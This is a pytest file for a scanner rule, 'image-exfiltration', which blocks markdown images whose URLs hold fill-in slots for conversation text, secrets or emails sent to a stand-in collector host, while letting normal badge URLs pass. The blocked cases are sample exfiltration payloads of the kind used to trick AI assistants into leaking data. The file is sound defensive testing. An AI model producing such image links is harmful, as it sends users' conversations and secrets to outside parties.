"""The rule on images whose address is filled with data: it asks for a place to fill, not for a word that names one."""

from __future__ import annotations

import pytest

from lockgate_workers.inspection.decide import InspectionOutcome, decide
from lockgate_workers.inspection.scoring import Scorer
from lockgate_workers.scanning.engine import Scanner

RULE = "image-exfiltration"


@pytest.mark.parametrize(
    "address",
    [
        "https://collector.test/a.png?q=[DATA]",
        "https://collector.test/a.png?q={conversation}",
        "https://collector.test/a.png?q={{secrets}}",
        "https://collector.test/a.png?q=<the conversation>",
        "https://collector.test/a.png?q=${history}",
        "https://collector.test/a.png?q=%7Bsummary%7D",
        "https://collector.test/a.png?q=USER_EMAIL",
        "https://collector.test/a.png?v=2&q=CHAT_HISTORY",
        "https://collector.test/a.png?q=BASE64",
        "https://collector.test/DATA/a.png",
        "HTTPS://COLLECTOR.TEST/{secret}.png",
    ],
)
def test_an_address_with_a_place_to_fill_is_blocked(address: str, scanner: Scanner, scorer: Scorer) -> None:
    found = decide({"data": f"![x]({address})"}, scanner, scorer)
    assert (found.decision, RULE in {one.rule for one in found.findings}) == (InspectionOutcome.BLOCK, True)


@pytest.mark.parametrize(
    "address",
    [
        "https://ci.example.com/acme/querystring.png",
        "https://badges.example.com/v/@acme/base64.svg",
        "https://badges.example.com/acme/base64-js.svg?branch=main",
        "https://cover.example.com/gh/acme/tool/badge.svg?token=q7ExAmPlE2",
        "https://badges.example.com/badge/chat-on-line.svg?logo=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
        "https://badges.example.com/acme/users.svg",
        "https://badges.example.com/issues/acme/tool?user=acme&key=total",
        "https://badges.example.com/license/acme/password-prompt",
        "https://img.example.com/content/data/history.png",
    ],
)
def test_a_badge_whose_address_names_such_a_word_passes(address: str, scanner: Scanner, scorer: Scorer) -> None:
    readme = f"# tool\n\n[![badge]({address})](https://example.com/acme/tool)\n\nReads a file and prints what it holds.\n"
    found = decide({"data": readme}, scanner, scorer)
    assert RULE not in {one.rule for one in scanner.scan(readme).findings}
    assert found.decision is not InspectionOutcome.BLOCK
